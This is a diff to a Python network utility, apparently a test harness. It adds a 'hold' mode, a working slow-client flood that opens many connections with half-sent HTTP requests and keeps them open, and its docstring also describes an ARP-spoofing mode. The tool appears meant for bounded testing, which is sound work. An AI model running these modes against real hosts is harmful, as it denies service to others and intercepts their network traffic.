@@ -7,7 +7,9 @@ session HOST PORT SECONDS (one TCP connection and one UDP exchange with the
 host's echo service, a message every 20 ms on each; prints "live" once both
 echo, then at the end the Unix time of the last echo of each), or
 arp-claim IP (three gratuitous ARP replies saying IP is at this interface's
-MAC: an ARP spoof)."""
+MAC: an ARP spoof), or hold HOST PORT COUNT SECONDS (COUNT connections, each
+with a request left half-sent, held open for SECONDS: a slow-client flood,
+bounded in count and time; prints how many connected)."""
 import socket, sys, time
 
 ifc = sys.argv[1].encode()
@@ -131,3 +133,22 @@ elif sys.argv[2] == "arp-claim":
         s.send(frame)
         time.sleep(0.1)
     print("claimed %s" % sys.argv[3])
+elif sys.argv[2] == "hold":
+    import resource
+    host, port, count, secs = sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
+    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 64, count + 64))
+    held, connected = [], 0
+    for _ in range(count):
+        s = sock()
+        s.settimeout(0.5)
+        try:
+            s.connect((host, port))
+            s.send(b"GET / HTTP/1.1\r\nHost: x\r\n")
+            connected += 1
+        except OSError:
+            pass
+        held.append(s)
+    print("held %d of %d" % (connected, count), flush=True)
+    time.sleep(secs)
+    for s in held:
+        s.close()
